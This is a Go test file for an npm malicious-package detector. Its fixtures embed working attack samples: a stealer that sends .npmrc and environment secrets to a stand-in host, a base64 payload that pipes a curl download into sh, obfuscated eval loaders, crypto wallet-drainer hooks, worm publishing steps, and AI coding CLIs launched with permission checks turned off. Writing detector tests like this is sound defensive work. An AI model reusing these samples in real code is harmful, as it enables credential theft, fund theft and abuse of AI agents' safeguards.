package heuristics

import (
	"testing"
)

// stealer is one credential stealer, placed in different files by the tests below.
const stealer = `const fs = require('fs'), os = require('os'), https = require('https')
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const req = https.request({ host: 'collect.example.net', path: '/u', method: 'POST' })
req.end(JSON.stringify({ npmrc, env: process.env }))
`

var basePkg = map[string]string{"package.json": `{"name":"x","version":"1.0.0","main":"index.js"}`, "index.js": "module.exports = function x () { return 1 }\n"}

func with(m map[string]string, kv ...string) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		out[kv[i]] = kv[i+1]
	}
	return out
}

// TestHiddenFileAttack: Node runs any file that require() or "main" names, whatever its
// extension. The same stealer must score the same in a .d.ts, .map or .md file as in
// a .js file.
func TestHiddenFileAttack(t *testing.T) {
	plain := analyze(t, basePkg, with(basePkg, "index.js", "require('./lib/index.js')\nmodule.exports = function x () { return 1 }\n", "lib/index.js", stealer))
	if !plain.Flagged(DefaultThreshold) {
		t.Fatalf("plain stealer not flagged: %+v", plain.Findings)
	}
	for _, hidden := range []string{"lib/index.d.ts", "lib/index.js.map", "lib/NOTES.md", "lib/data.bin", "lib/.cache"} {
		t.Run(hidden, func(t *testing.T) {
			required := analyze(t, basePkg, with(basePkg, "index.js", "require('./"+hidden+"')\nmodule.exports = function x () { return 1 }\n", hidden, stealer))
			if required.Score != plain.Score {
				t.Errorf("required from index.js: score %d, plain %d; findings %+v", required.Score, plain.Score, required.Findings)
			}
			main := analyze(t, basePkg, with(basePkg, "package.json", `{"name":"x","version":"1.0.1","main":"`+hidden+`"}`, hidden, stealer))
			if main.Score > plain.Score {
				t.Errorf("as package.json main: score %d, plain %d; findings %+v", main.Score, plain.Score, main.Findings)
			}
			if _, ok := rules(required)[RuleRequireNonJS]; !ok {
				t.Errorf("no %s finding for require('./%s'): %+v", RuleRequireNonJS, hidden, required.Findings)
			}
		})
	}
	// a file nothing runs stays documentation
	doc := analyze(t, basePkg, with(basePkg, "docs/NOTES.md", "Example:\n\n    const cp = require('child_process')\n"))
	if len(doc.Findings) != 0 {
		t.Errorf("unreachable markdown raised %+v", doc.Findings)
	}
}

// TestDecoderExecutorAttack: data decoded at run time reaches an executor.
func TestDecoderExecutorAttack(t *testing.T) {
	tests := map[string]map[string]string{
		"indirect eval of char codes": {"index.js": "const codes = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41]\nmodule.exports = function x () { return 1 }\n;(0, eval)(String.fromCharCode.apply(null, codes))\n"},
		"base64 data file evaluated": {"index.js": "const fs = require('fs')\nconst p = require('path').join(__dirname, 'assets', 'font.dat')\nmodule.exports = function x () { return 1 }\nnew Function(Buffer.from(fs.readFileSync(p, 'utf8'), 'base64').toString())()\n",
			"assets/font.dat": "Y29uc3QgY3AgPSByZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk7IGNwLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcp\n"},
		"hex escapes into globalThis eval":  {"index.js": "module.exports = function x () { return 1 }\nglobalThis['\\x65\\x76\\x61\\x6c'](unescape('%72%65%71'))\n"},
		"split strings into Function":       {"index.js": "module.exports = function x () { return 1 }\nconst F = [].constructor.constructor\nF(['re','quire(\"ch','ild_pro','cess\")'].join(''))()\n"},
		"vm of atob":                        {"index.js": "const vm = require('vm')\nmodule.exports = function x () { return 1 }\nvm.runInThisContext(atob(process.argv[2] || cfg.payload))\n"},
		"module._compile of decoded":        {"index.js": "const m = new module.constructor()\nconst src = Buffer.from(blob, 'hex').toString()\nm._compile(src, 'x.js')\nmodule.exports = function x () { return 1 }\n"},
		"import of a data URL":              {"index.mjs": "export default 1\nawait import('data:text/javascript;base64,' + payload)\n"},
		"child_process of a decoded string": {"index.js": "const { execSync } = require('child_process')\nmodule.exports = function x () { return 1 }\nexecSync(Buffer.from(cmd, 'base64').toString())\n"},
	}
	for name, files := range tests {
		t.Run(name, func(t *testing.T) {
			kv := []string{}
			for k, v := range files {
				kv = append(kv, k, v)
			}
			r := analyze(t, basePkg, with(basePkg, kv...))
			if sev, ok := rules(r)[RuleDecodeExec]; !ok || sev.Rank() < High.Rank() {
				t.Errorf("no high %s finding: %+v", RuleDecodeExec, r.Findings)
			}
			if !r.Flagged(DefaultThreshold) {
				t.Errorf("scored %d, not flagged", r.Score)
			}
		})
	}
}

// TestWalletDrainerAttack models the September 2025 chalk/debug compromise: browser
// code hooks fetch, XMLHttpRequest and window.ethereum and rewrites crypto addresses.
func TestWalletDrainerAttack(t *testing.T) {
	hooks := []string{
		"const of = window.fetch; window.fetch = async function (...a) { const r = await of(...a); return swap(r) }",
		"const os = XMLHttpRequest.prototype.send\nXMLHttpRequest.prototype.send = function (b) { return os.call(this, swap(b)) }",
		"const req = window.ethereum.request\nwindow.ethereum.request = async function (args) { if (args.method === 'eth_sendTransaction') args.params[0].to = pick(args.params[0].to); return req.call(this, args) }",
		"const h = '\\x66\\x65\\x74\\x63\\x68'; const o = window[h]; window[h] = function () { return o.apply(this, arguments).then(swap) }",
	}
	swap := `const addrs = ['0x9f7e2bd5c3e43a9a7d1a9cbbd1c17c5a1e3b9d21', '0x1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d', '0x7d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e']
function swap (t) { return String(t).replace(/\b0x[a-fA-F0-9]{40}\b/g, a => nearest(a, addrs)).replace(/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/g, a => 'bc1qattacker') }`
	for _, h := range hooks {
		t.Run(h[:30], func(t *testing.T) {
			r := analyze(t, basePkg, with(basePkg, "index.js", "module.exports = function x () { return 1 }\n"+h+"\n"+swap+"\n"))
			if _, ok := rules(r)[RuleWalletDrainer]; !ok || !r.Flagged(DefaultThreshold) {
				t.Errorf("score %d, no %s: %+v", r.Score, RuleWalletDrainer, r.Findings)
			}
		})
	}
}

// TestWormAttack models Shai-Hulud (September and November 2025).
func TestWormAttack(t *testing.T) {
	pj := `{"name":"x","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node bundle.js"}}`
	tests := map[string]string{
		"npm whoami and publish": "const { execSync } = require('child_process')\nconst me = execSync('npm whoami').toString().trim()\nfor (const p of pkgs) execSync('npm publish ' + p + ' --access public')\n",
		"search maintainer":      "const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + me + '&size=250')\n",
		"trufflehog download":    "await download('https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz', dir)\n",
		"bun runtime download":   "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash')\n",
		"workflow write":         "fs.mkdirSync('.github/workflows', { recursive: true })\nfs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', wf)\n",
	}
	for name, code := range tests {
		t.Run(name, func(t *testing.T) {
			r := analyze(t, basePkg, with(basePkg, "package.json", pj, "bundle.js", code))
			if _, ok := rules(r)[RuleWorm]; !ok || !r.Flagged(DefaultThreshold) {
				t.Errorf("score %d, no %s: %+v", r.Score, RuleWorm, r.Findings)
			}
		})
	}
}

// TestAIAgentAttack models Nx "s1ngularity" (August 2025): package code starts AI coding
// CLIs with their permission checks turned off, to search the disk for secrets.
func TestAIAgentAttack(t *testing.T) {
	for _, line := range []string{
		"spawn('claude', ['--dangerously-skip-permissions', '-p', PROMPT])",
		"spawn('gemini', ['--yolo', '-p', PROMPT])",
		"spawn('q', ['chat', '--trust-all-tools', '--no-interactive', PROMPT])",
		"const cli = { cmd: 'codex', args: ['exec', '--dangerously-bypass-approvals-and-sandbox', PROMPT] }",
	} {
		t.Run(line[:14], func(t *testing.T) {
			r := analyze(t, basePkg, with(basePkg, "telemetry.js", "const { spawn } = require('child_process')\n"+line+"\n",
				"package.json", `{"name":"x","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node telemetry.js"}}`))
			if sev, ok := rules(r)[RuleAIAgentAbuse]; !ok || sev != Critical || !r.Flagged(DefaultThreshold) {
				t.Errorf("score %d, %s=%q: %+v", r.Score, RuleAIAgentAbuse, sev, r.Findings)
			}
		})
	}
}

// Every rule id the analyzer can report has an explanation for the reviewer.
func TestEveryRuleExplained(t *testing.T) {
	ids := []string{RuleInstallTimePayload, RuleCredentialExfil, RuleGeoDestructive, RuleWalletDrainer, RuleWorm, RuleRequireNonJS,
		RuleDecodeExec, RuleEncodedStrings, RuleModuleTamper, RuleObfuscatedNames, RuleEscapeDensity, RuleBase64Blob, RuleBinaryDrop,
		RuleBinaryNew, RulePrebuiltAddon, RuleMinifiedNew, RuleNativeBuild, RuleLoader, RuleBundledDependencies, RulePackageJSONInvalid, RuleInstallScript,
		RuleInstallDownload, RuleNewDependency, RuleTyposquat, RuleDependencyURL, RuleSplitName}
	for _, rl := range lineRules {
		ids = append(ids, rl.ID)
	}
	for _, id := range ids {
		if Explain(id) == "" {
			t.Errorf("rule %s has no explanation", id)
		}
	}
}
